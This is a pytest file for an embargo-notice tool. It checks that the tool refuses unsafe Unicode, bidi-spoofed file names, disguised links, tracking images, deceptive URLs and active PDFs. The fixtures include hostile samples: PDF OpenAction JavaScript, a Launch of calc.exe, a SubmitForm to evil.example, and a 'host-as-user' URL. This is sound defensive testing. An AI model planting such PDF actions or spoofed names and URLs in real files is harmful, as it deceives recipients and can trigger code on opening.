"""Input that would deceive a partner or leak the link, refused through the real command line.

Issue 8: one check for unsafe characters, in every field that reaches a header or a
person. Issue 10, items 7 to 11: the live link disguised in the notice, active PDFs,
remote content, deceptive text and deceptive live URLs.
"""

from __future__ import annotations

import dataclasses
import io
import json
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pypdf
import pytest
from conftest import GOOD_FILES, GOOD_REQUEST, PDF, Cli

from embargo_bot.devtools.samplepdf import sample_pdf
from embargo_bot.domain.errors import InputError
from embargo_bot.lists.parse import parse_list
from embargo_bot.officials.fields import InputFiles
from embargo_bot.officials.intake import AmendRequest, check_amend, check_request

NOW = datetime(2022, 2, 21, 9, 0, tzinfo=UTC)

# One of each class the helper refuses: C0, DEL, C1, Unicode line breaks, bidi controls.
UNSAFE = {
    "bell (C0)": "\x07",
    "delete": "\x7f",
    "next line (C1)": "\x85",
    "control sequence introducer (C1)": "\x9b",
    "line separator": "\u2028",
    "paragraph separator": "\u2029",
    "left-to-right embedding": "\u202a",
    "right-to-left override": "\u202e",
    "left-to-right isolate": "\u2066",
    "pop directional isolate": "\u2069",
    "right-to-left mark": "\u200f",
}
CLASSES = pytest.mark.parametrize("character", list(UNSAFE.values()), ids=list(UNSAFE))


def refusal(**changes: str) -> str:
    with pytest.raises(InputError) as caught:
        check_request(
            dataclasses.replace(GOOD_REQUEST, **changes),  # type: ignore[arg-type]
            GOOD_FILES,
            now=NOW,
            zone=ZoneInfo("Europe/London"),
            default_contact="ocu@example.org",
        )
    return str(caught.value)


def code_of(character: str) -> str:
    return f"U+{ord(character):04X}"


@CLASSES
def test_the_title_reference_and_list_names_refuse_every_unsafe_class(character: str) -> None:
    for option, changes in (
        ("--title", {"title": f"Strategy{character}fdp.exe"}),
        ("--reference", {"reference": f"SG/2022{character}/14"}),
        ("--lists", {"lists": f"n{character}ca,copfs"}),
    ):
        message = refusal(**changes)
        assert option in message and code_of(character) in message, message


@CLASSES
def test_an_amendment_note_refuses_every_unsafe_class(character: str) -> None:
    request = AmendRequest(None, None, None, "New title", None, f"Agreed{character} wording")
    with pytest.raises(InputError) as caught:
        check_amend(request, InputFiles(None, None, None), live_url="https://www.gov.example/x")
    assert "--note" in str(caught.value) and code_of(character) in str(caught.value)


@CLASSES
def test_list_and_partner_names_refuse_every_unsafe_class(character: str) -> None:
    # JSON's escapes are YAML's: the file holds the character as an admin's editor would.
    quoted = json.dumps(f"Police{character} Scotland")
    for where, text in (
        (1, f"name: {quoted}\n"),
        (6, "name: Police Scotland\n"),
    ):
        body = (
            f"{text}allowed_domains: [police.example]\nmax_classification: OFFICIAL\n"
            "recipients:\n  - email: comms@police.example\n"
        )
        if where == 6:
            body += f"    name: {quoted}\n"
        found, problems = parse_list(Path("police.yaml"), body)
        assert found is None
        assert any(p.line == where and code_of(character) in p.message for p in problems), problems


@CLASSES
def test_a_withdrawal_reason_refuses_every_unsafe_class(cli: Cli, character: str) -> None:
    (pack,) = json.loads(cli.run("list", "--json")[1])
    before = cli.dump()
    err = cli.assert_refused(
        cli.run("cancel", pack["id"], f"--reason=Postponed{character} by ministers"), before
    )
    assert "--reason" in err and code_of(character) in err


def test_a_title_with_nothing_visible_is_refused() -> None:
    assert "no visible text" in refusal(title="\u200b" * 5)


def test_an_attachment_name_that_reads_differently_is_refused(cli: Cli) -> None:
    trojan = cli.work / "strategy\u202efdp.exe"
    trojan.write_bytes(PDF)
    before = cli.dump()
    err = cli.assert_refused(cli.queue(**{"--pdf": str(trojan)}), before)
    assert "--pdf" in err and "U+202E" in err


# --- issue 10, item 7: the live link slipped into the notice ---------------------------

LIVE = "https://www.gov.example/isbn/probe"


@pytest.mark.parametrize(
    "disguised",
    [
        "https://www.gov.example/isbn/%70robe",
        "https://www.gov.example/./isbn/probe",
        "https://www.gov.example/isbn/../isbn/probe",
        "https://www.gov.example:443/isbn/probe",
        "https://www.gov.example./isbn/probe",
        "HTTPS://WWW.GOV.EXAMPLE/isbn/probe",
        "www.gov.example/isbn/probe",
    ],
)
def test_the_live_link_cannot_be_slipped_into_the_notice(cli: Cli, disguised: str) -> None:
    release = cli.work / "release.md"
    release.write_text(f"# Out soon\n\nRead [the strategy]({disguised}).\n", encoding="utf-8")
    social = cli.work / "social.txt"
    social.write_text(f"Out now: {disguised}\n", encoding="utf-8")
    before = cli.dump()
    for option, path in (("--release", release), ("--social", social)):
        err = cli.assert_refused(cli.queue(**{"--url": LIVE, option: str(path)}), before)
        assert "live link" in err and option in err


# --- item 8: active PDFs ----------------------------------------------------------------

SCRIPT = b"(app.alert\\(1\\))"


@pytest.mark.parametrize(
    ("catalog", "found"),
    [
        (b"/OpenAction << /S /JavaScript /JS " + SCRIPT + b" >>", "JavaScript"),
        (b"/OpenAction << /S /J#61vaScript /J#53 " + SCRIPT + b" >>", "JavaScript"),
        (b"/OpenAction << /S /Launch /F (calc.exe) >>", "Launch"),
        (b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>", "SubmitForm"),
        (b"/OpenAction << /S /ImportData /F (data.fdf) >>", "ImportData"),
        (b"/AA << /WC 6 0 R >>", "JavaScript"),
    ],
    ids=["javascript", "hex-escaped-names", "launch", "submit-form", "import-data", "indirect"],
)
def test_a_pdf_that_acts_when_opened_is_refused(cli: Cli, catalog: bytes, found: str) -> None:
    active = cli.work / "active.pdf"
    action = b"<< /S /JavaScript /JS " + SCRIPT + b" >>"
    active.write_bytes(sample_pdf(["Strategy"], catalog_extra=catalog, extra_objects=[action]))
    before = cli.dump()
    err = cli.assert_refused(cli.queue(**{"--pdf": str(active)}), before)
    assert "--pdf" in err and found in err


def test_a_pdf_with_an_attached_file_is_sent_with_a_warning(cli: Cli) -> None:
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(PDF))
    writer.add_attachment("figures.csv", b"year,count\n2022,1\n")
    attached = cli.work / "attached.pdf"
    with attached.open("wb") as out:
        writer.write(out)
    code, out, err = cli.queue(**{"--pdf": str(attached)})
    assert code == 0, err
    assert "warning" in err and "figures.csv" in err
    assert json.loads(out)["pdf_name"] == "attached.pdf"


# --- item 9: remote content -------------------------------------------------------------


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        ("![](https://tracker.example/pixel.gif?id=partner)", "image"),
        ("![logo][l]\n\n[l]: https://tracker.example/logo.png", "image"),
        ("![x](data:image/png;base64,iVBORw0KGgo=)", "image"),
        ("See [the annex](http://www.gov.example/annex).", "https"),
        ("See http://www.gov.example/annex for more.", "https"),
    ],
    ids=["tracking-pixel", "reference-image", "data-image", "http-link", "bare-http"],
)
def test_remote_content_in_the_release_is_refused(cli: Cli, markdown: str, expected: str) -> None:
    release = cli.work / "release.md"
    release.write_text(f"# Strategy\n\n{markdown}\n", encoding="utf-8")
    before = cli.dump()
    err = cli.assert_refused(cli.queue(**{"--release": str(release)}), before)
    assert "--release" in err and expected in err


# --- items 10 and 11: the live URL ------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "https://www.gov.example@evil.example/isbn/1",
        "https://user:secret@www.gov.example/isbn/1",
        "https://www.gov.example/isbn/\u202e1",
        "http://www.gov.example/isbn/1",
    ],
    ids=["host-as-user", "credentials", "bidi", "plain-http"],
)
def test_a_deceptive_live_url_is_refused(cli: Cli, url: str) -> None:
    before = cli.dump()
    err = cli.assert_refused(cli.queue(**{"--url": url}), before)
    assert "--url" in err


def test_a_look_alike_host_is_shown_and_stored_in_ascii(cli: Cli) -> None:
    code, out, err = cli.queue(**{"--url": "https://www.g\u043ev.example/isbn/1"})
    assert code == 0, err
    stored = json.loads(out)["url"]
    assert stored.startswith("https://www.xn--") and stored.isascii()
    assert "warning" in err and "xn--" in err


def test_live_urls_can_be_limited_to_the_publishing_sites(
    cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("EMBARGO_BOT_LIVE_DOMAINS", "gov.example")
    before = cli.dump()
    err = cli.assert_refused(cli.queue(**{"--url": "https://gov-example.example/isbn/1"}), before)
    assert "EMBARGO_BOT_LIVE_DOMAINS" in err or "gov.example" in err
    code, _, err = cli.queue(**{"--url": "https://www.gov.example/isbn/1"})
    assert code == 0, err
